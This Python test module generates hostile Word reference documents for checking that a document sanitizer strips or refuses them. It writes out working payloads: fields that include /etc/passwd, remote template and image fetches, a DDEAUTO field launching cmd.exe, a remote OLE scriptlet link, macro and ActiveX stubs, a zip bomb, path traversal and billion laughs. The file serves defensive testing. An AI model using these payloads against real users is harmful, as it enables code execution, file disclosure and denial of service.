"""Hostile reference.docx files, made from the base set's own: each case adds one way a
Word file can fetch, include, link to a file, run code or exhaust memory.

Generated, not committed: `python -m tests.hostile_docx DIR` writes every case into DIR
(DIR/NAME/reference.docx), for trying them in Word or LibreOffice by hand.
"""

from __future__ import annotations

import functools
import io
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from counterpoint.render.templates import builtin_root

BASE = builtin_root() / "base" / "reference.docx"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00"
    b"\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N"
    b"\x00\x00\x00\x00IEND\xaeB`\x82"
)
"""A 1x1 PNG."""

HEADER_NS = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    f'xmlns:r="{R}" xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
)

SERVER = "http://203.0.113.9"
"""TEST-NET-3: an address nothing answers on."""


def base_parts() -> dict[str, bytes]:
    with zipfile.ZipFile(BASE) as z:
        return {n: z.read(n) for n in z.namelist()}


def rels(*items: tuple[str, str, str, bool]) -> bytes:
    """A relationships part: (id, type's last segment, target, external)."""
    body = ""
    for rid, kind, target, external in items:
        mode = ' TargetMode="External"' if external else ""
        ns = "http://schemas.microsoft.com/office/2006/relationships" if kind == "vbaProject" else R
        body += f'<Relationship Id="{rid}" Type="{ns}/{kind}" Target="{target}"{mode}/>'
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{body}</Relationships>"
    ).encode()


def header(body: str) -> bytes:
    """word/header1.xml: the base set's title and marking paragraph, then `body`."""
    xml = base_parts()["word/header1.xml"].decode()
    start, end = xml.index(">", xml.index("<w:hdr")), xml.index(" ", xml.index("<w:hdr"))
    declared = xml[end:start]
    extra = " ".join(d for d in HEADER_NS.split(" ") if d.split("=")[0] not in declared)
    xml = xml[:end] + " " + extra + xml[end:]
    return xml.replace("</w:hdr>", body + "</w:hdr>").encode()


def field(instruction: str, result: str = "shown") -> str:
    """A complex field (begin, instruction, separate, result, end) in a paragraph."""
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f"<w:r><w:t>{result}</w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def package(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def with_parts(changes: dict[str, bytes]) -> bytes:
    """The base reference.docx with parts added or replaced."""
    return package({**base_parts(), **changes})


def settings(extra: str) -> bytes:
    xml = base_parts()["word/settings.xml"].decode()
    return xml.replace('<w:zoom w:percent="100"/>', '<w:zoom w:percent="100"/>' + extra).encode()


# -- what is removed, with a warning ----------------------------------------------------------
IMAGE_XML = (
    '<w:p><w:r><w:pict><v:shape><v:imagedata r:id="rIdV" o:title=""/></v:shape></w:pict></w:r>'
    '<w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/><wp:docPr id="1" name="x"/>'
    '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="x"/><pic:cNvPicPr/></pic:nvPicPr>'
    '<pic:blipFill><a:blip r:link="rIdD"/></pic:blipFill><pic:spPr/></pic:pic>'
    "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
)

NESTED = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:instrText xml:space="preserve"> QUOTE "INCLUDETEXT" </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>INCLUDETEXT</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    '<w:r><w:instrText xml:space="preserve"> "file:///etc/passwd" </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>nested</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
"""A field whose keyword a nested field makes: { { QUOTE "INCLUDETEXT" } "file:..." }."""

Rels = list[tuple[str, str, str, bool]]

HEADERS: dict[str, tuple[str, Rels, dict[str, bytes]]] = {
    "include-picture": (
        f"<w:p><w:fldSimple w:instr=' INCLUDEPICTURE \"{SERVER}/pixel.png\" \\d '>"
        "<w:r><w:t>picture</w:t></w:r></w:fldSimple></w:p>",
        [], {},
    ),
    "include-text": (field(' INCLUDETEXT "file:///etc/passwd" ', "passwd"), [], {}),
    "include-text-http": (field(f' INCLUDETEXT "{SERVER}/text" ', "fetched"), [], {}),
    "nested-keyword": (NESTED, [], {}),
    "hyperlink-field": (field(' HYPERLINK "file:///etc/passwd" ', "open"), [], {}),
    "external-images": (
        IMAGE_XML,
        [("rIdV", "image", f"{SERVER}/vml.png", True),
         ("rIdD", "image", "file:///etc/passwd", True)],
        {},
    ),
    "link-as-image": (  # a web link's relationship named by pictures: they load it
        IMAGE_XML.replace("rIdV", "rIdW").replace("rIdD", "rIdW"),
        [("rIdW", "hyperlink", f"{SERVER}/link.png", True)],
        {},
    ),
    "links": (
        '<w:p><w:hyperlink r:id="rIdL1"><w:r><w:t>local file</w:t></w:r></w:hyperlink>'
        '<w:hyperlink r:id="rIdL2"><w:r><w:t>the web</w:t></w:r></w:hyperlink></w:p>',
        [("rIdL1", "hyperlink", "file:///etc/passwd", True),
         ("rIdL2", "hyperlink", "https://example.org/page", True)],
        {},
    ),
    "alt-chunk": (
        '<w:altChunk r:id="rIdA"/><w:p/>',
        [("rIdA", "aFChunk", "chunk.mht", False)],
        {"word/chunk.mht": f'<img src="{SERVER}/mht.png">'.encode()},
    ),
    "share-image": (
        '<w:p><w:r><w:pict><v:shape><v:imagedata r:id="rIdU"/></v:shape></w:pict></w:r></w:p>',
        [("rIdU", "image", "\\\\203.0.113.9\\share\\p.png", False)],  # "internal"
        {},
    ),
    "vml-source": (
        f'<w:p><w:r><w:pict><v:shape><v:imagedata src="{SERVER}/src.png"/></v:shape>'
        "</w:pict></w:r></w:p>",
        [], {},
    ),
    "svg-logo": (
        '<w:p><w:r><w:pict><v:shape><v:imagedata r:id="rIdS"/></v:shape></w:pict></w:r>'
        '<w:r><w:pict><v:shape><v:imagedata r:id="rIdP"/></v:shape></w:pict></w:r></w:p>'
        + IMAGE_XML.split("</w:r>", 1)[1]
        .replace("<w:r>", "<w:p><w:r>", 1)
        .replace('r:link="rIdD"/>', 'r:embed="rIdP"><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79'
                 '-37D633B846F1}"><asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/'
                 'drawing/2016/SVG/main" r:embed="rIdS"/></a:ext></a:extLst></a:blip>'),
        [("rIdS", "image", "media/logo.svg", False), ("rIdP", "image", "media/logo.png", False)],
        {"word/media/logo.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><image '
                                f'href="{SERVER}/s.png"/></svg>'.encode(),
         "word/media/logo.png": PNG},
    ),
}  # fmt: skip
"""Cases in word/header1.xml: the paragraphs added, the header's relationships, and other
parts."""

MERGE = (
    '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/>'
    '<w:dataType w:val="native"/><w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0"/>'
    '<w:query w:val="SELECT * FROM `Sheet1$`"/><w:dataSource r:id="rIdM"/></w:mailMerge>'
)
WEB_SETTINGS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:webSettings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    f'xmlns:r="{R}"><w:frameset><w:frame><w:sourceFileName r:id="rIdF"/></w:frame></w:frameset>'
    "</w:webSettings>"
).encode()


def _numbering() -> bytes:
    numbering = base_parts()["word/numbering.xml"].decode()
    bullet = (
        '<w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape style="width:9pt;height:9pt">'
        '<v:imagedata r:id="rIdB" o:title=""/></v:shape></w:pict></w:numPicBullet>'
    )
    start = numbering.index(">", numbering.index("<w:numbering")) + 1
    numbering = numbering[:start] + bullet + numbering[start:]
    for prefix, uri in (("v", "urn:schemas-microsoft-com:vml"),
                        ("o", "urn:schemas-microsoft-com:office:office"), ("r", R)):  # fmt: skip
        if f"xmlns:{prefix}=" not in numbering[:start]:
            declared = f'<w:numbering xmlns:{prefix}="{uri}" '
            numbering = numbering.replace("<w:numbering ", declared, 1)
    return numbering.encode()


def _app() -> bytes:
    app = base_parts()["docProps/app.xml"].decode()
    return app.replace("<Pages>", f"<HyperlinkBase>{SERVER}/base/</HyperlinkBase><Pages>").encode()


OTHERS: dict[str, dict[str, bytes]] = {
    "attached-template": {
        "word/settings.xml": settings('<w:attachedTemplate r:id="rIdT"/><w:linkStyles/>'),
        "word/_rels/settings.xml.rels":
            rels(("rIdT", "attachedTemplate", f"{SERVER}/t.dotm", True)),
    },
    "mail-merge": {
        "word/settings.xml": settings(MERGE),
        "word/_rels/settings.xml.rels":
            rels(("rIdM", "mailMergeSource", "file:///C:/data.xlsx", True)),
    },
    "frames": {
        "word/webSettings.xml": WEB_SETTINGS,
        "word/_rels/webSettings.xml.rels": rels(("rIdF", "frame", f"{SERVER}/frame.html", True)),
    },
    "hyperlink-base": {"docProps/app.xml": _app()},
    "picture-bullet": {
        "word/numbering.xml": _numbering(),
        "word/_rels/numbering.xml.rels": rels(("rIdB", "image", f"{SERVER}/bullet.png", True)),
    },
}  # fmt: skip
"""Cases in other parts: the parts replaced or added."""


def removed_case(name: str) -> bytes:
    """One case of what is removed with a warning, as a reference.docx."""
    if name in OTHERS:
        return package({**base_parts(), **OTHERS[name]})
    body, header_rels, extra = HEADERS[name]
    parts = {**base_parts(), "word/header1.xml": header(body), **extra}
    if header_rels:
        parts["word/_rels/header1.xml.rels"] = rels(*header_rels)
    return package(parts)


REMOVED = [*HEADERS, *OTHERS]


def everything_removable() -> bytes:
    """Every case of what is removed, in one reference.docx (one build checks that none
    of it reaches the .docx)."""
    parts = base_parts()
    body = "".join(b for b, _, _ in HEADERS.values())
    parts["word/header1.xml"] = header(body)
    parts["word/_rels/header1.xml.rels"] = rels(*(r for _, rs, _ in HEADERS.values() for r in rs))
    for _, _, extra in HEADERS.values():
        parts.update(extra)
    for name in ("frames", "hyperlink-base", "picture-bullet"):
        parts.update(OTHERS[name])
    parts["word/settings.xml"] = settings(
        '<w:attachedTemplate r:id="rIdT"/><w:linkStyles/>' + MERGE
    )
    parts["word/_rels/settings.xml.rels"] = rels(
        ("rIdT", "attachedTemplate", f"{SERVER}/t.dotm", True),
        ("rIdM", "mailMergeSource", "file:///C:/data.xlsx", True),
    )
    return package(parts)


# -- what is refused ----------------------------------------------------------------------------
def _macros() -> dict[str, bytes]:
    types = (
        base_parts()["[Content_Types].xml"]
        .decode()
        .replace("wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml")
    )
    return {
        "[Content_Types].xml": types.encode(),
        "word/vbaProject.bin": b'\xcc\x61Attribute VB_Name = "AutoOpen"',
        "word/_rels/document.xml.rels": base_parts()["word/_rels/document.xml.rels"].replace(
            b"</Relationships>",
            b'<Relationship Id="rIdVBA" Type="http://schemas.microsoft.com/office/2006/'
            b'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
        ),
    }


REFUSED: dict[str, dict[str, bytes]] = {
    "macros": _macros(),
    "activex": {
        "word/header1.xml": header(
            '<w:p><w:r><w:object><w:control r:id="rIdX" w:name="CommandButton1"/></w:object>'
            "</w:r></w:p>"
        ),
        "word/_rels/header1.xml.rels": rels(("rIdX", "control", "activeX/activeX1.xml", False)),
        "word/activeX/activeX1.xml":
            b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
    },
    "activex-element": {
        "word/header1.xml": header(
            '<w:p><w:r><w:object><w:control w:name="CommandButton1"/></w:object></w:r></w:p>'
        ),
    },
    "ole-object": {
        "word/header1.xml": header(
            '<w:p><w:r><w:object><v:shape id="o1"/><o:OLEObject Type="Link" ProgID="Package" '
            'ShapeID="o1" r:id="rIdO"/></w:object></w:r></w:p>'
        ),
        "word/_rels/header1.xml.rels": rels(("rIdO", "oleObject", f"{SERVER}/x.sct", True)),
    },
    "dde": {
        "word/header1.xml":
            header(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')),
    },
    "form-macro": {
        "word/header1.xml": header(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="Text1"/>'
            '<w:entryMacro w:val="AutoOpen"/></w:ffData></w:fldChar></w:r>'
            "<w:r><w:instrText> FORMTEXT </w:instrText></w:r>"
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
    },
}  # fmt: skip
"""Active content, refused: the parts replaced or added."""


def refused_case(name: str) -> bytes:
    return package({**base_parts(), **REFUSED[name]})


# -- packages built to exhaust memory or confuse readers ----------------------------------------
def zip_bomb(size: int = 256 * 1024 * 1024) -> bytes:
    """word/document.xml of `size` bytes of spaces inside an element, packed about a
    thousand times (the first section's properties come after them)."""
    head = (
        b'<?xml version="1.0" encoding="UTF-8"?><w:document '
        b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>'
    )
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = [packer.compress(head)]
    chunk = b" " * (1 << 20)
    crc = zlib.crc32(head)
    for _ in range(size // len(chunk)):
        packed.append(packer.compress(chunk))
        crc = zlib.crc32(chunk, crc)
    tail = b"</w:p><w:sectPr/></w:body></w:document>"
    packed += [packer.compress(tail), packer.flush()]
    crc = zlib.crc32(tail, crc)
    body = b"".join(packed)
    return _raw_zip(
        [("word/document.xml", body, len(head) + size // len(chunk) * len(chunk) + len(tail), crc)]
    )


def lying_size() -> bytes:
    """A member whose directory says 100 bytes but that unpacks to 64 MB (readers that
    trust the directory's sizes read it all)."""
    data = b"<a>" + b" " * (64 << 20) + b"</a>"
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = packer.compress(data) + packer.flush()
    return _raw_zip([("word/styles.xml", body, 100, zlib.crc32(data))])


def _raw_zip(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip of already deflated members with the sizes given (which may lie)."""
    import struct

    out = io.BytesIO()
    directory = b""
    for name, body, size, crc in members:
        offset = out.tell()
        encoded = name.encode()
        common = (20, 0, 8, 0, 0x21, crc, len(body), size, len(encoded))
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, *common, 0) + encoded + body)
        directory += (
            struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, *common, 0, 0, 0, 0, 0, offset)
            + encoded
        )
    start = out.tell()
    out.write(directory)
    count = len(members)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(directory), start, 0))
    return out.getvalue()


def many_members(count: int = 1_001) -> bytes:
    parts = base_parts()
    for i in range(count - len(parts)):
        parts[f"customXml/item{i}.xml"] = b"<a/>"
    return package(parts)


def duplicate_names() -> bytes:
    """word/styles.xml and WORD/styles.xml: part names are compared without case."""
    parts = base_parts()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in parts.items():
            z.writestr(name, data)
        z.writestr("WORD/styles.xml", b"<w:styles/>")
    return out.getvalue()


def traversal() -> bytes:
    parts = base_parts()
    parts["../../evil.xml"] = b"<a/>"
    return package(parts)


def billion_laughs() -> bytes:
    entities = '<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)
    )
    styles = (
        f'<?xml version="1.0"?><!DOCTYPE w:styles [{entities}]>'
        '<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        '<w:style><w:name w:val="&j;"/></w:style></w:styles>'
    )
    return with_parts({"word/styles.xml": styles.encode()})


def write_all(folder: Path) -> None:
    """Every case as FOLDER/NAME/reference.docx."""
    cases: dict[str, Callable[[], bytes]] = {
        "everything": everything_removable, "zip-bomb": zip_bomb, "lying-size": lying_size,
        "many-members": many_members, "duplicate-names": duplicate_names,
        "traversal": traversal, "billion-laughs": billion_laughs,
    }  # fmt: skip
    for name in REMOVED:
        cases[name] = functools.partial(removed_case, name)
    for name in REFUSED:
        cases[name] = functools.partial(refused_case, name)
    for name, make in cases.items():
        (folder / name).mkdir(parents=True, exist_ok=True)
        (folder / name / "reference.docx").write_bytes(make())


if __name__ == "__main__":
    write_all(Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-docx"))
